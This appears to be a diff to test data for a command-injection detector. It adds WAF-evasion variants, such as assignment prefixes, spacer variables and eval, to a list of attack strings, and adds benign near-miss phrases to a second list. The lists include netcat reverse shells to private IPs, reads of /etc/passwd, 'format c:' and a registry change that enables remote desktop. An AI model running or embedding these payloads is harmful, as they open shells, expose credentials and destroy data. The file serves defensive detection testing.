@@ -87,7 +87,10 @@ COMMANDS = {
                   "| Invoke-Command -ScriptBlock {x}", "\nSet-ExecutionPolicy -ExecutionPolicy Bypass",
                   # English-word commands with command-line arguments after a separator; history; $SHELL
                   "; patch -p1 < x.diff", "& format c: /q", "| where /r c:\\ *.txt", "!-1", "x;!!", "x;$SHELL",
-                  "`${BASH}`"],
+                  "`${BASH}`",
+                  # CRS's evasion prefixes before a command: an assignment, an unset variable as a spacer, `!`, eval
+                  ";A=1 ifconfig", ";A=1 cat /etc/passwd", "x;$a ifconfig", "x;$u cat /etc/passwd", ";! ifconfig",
+                  "x;eval ifconfig", "x;env -i nc -e /bin/sh 10.0.0.1 4444"],
     "split words": ["'i'p a", "/bin/ca't' /et*/passwd", '";\\n. shell nc 10.10.10.1 6666 -e sh\\n',
                     'reg add "HKLM\\System\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'],
 }
@@ -116,7 +119,8 @@ COMMAND_NEAR_MISSES = [
     "ssh-agent is running", "reg add is how a script writes a key to the registry on each start",
     "net user growth was strong this year and more came later on",
     "java is a language; rsync is a tool", "; done", "| view", "x; view the page", "a|list|b",
-    "`man --recode`, but", "`man`'s default", "Hello!! World", "wow!-1", "$SHELL_NAME",
+    "`man --recode`, but", "`man`'s default", "dimension31=not set;x=1", "a; A=1 b", "Price; $5 off",
+    "Wow; ! great", "We; $HOME is set", "Hello!! World", "wow!-1", "$SHELL_NAME",
     "I use tmux and psql daily", "; Get well soon", "xcopy",
     "the robocopy docs", "Get-ChildItem",
     "C++", "a+b=c", "user+tag@example.com", "Lunch; at noon", "we meet; at 5 pm \"sharp\"", "US$5 or 6$",
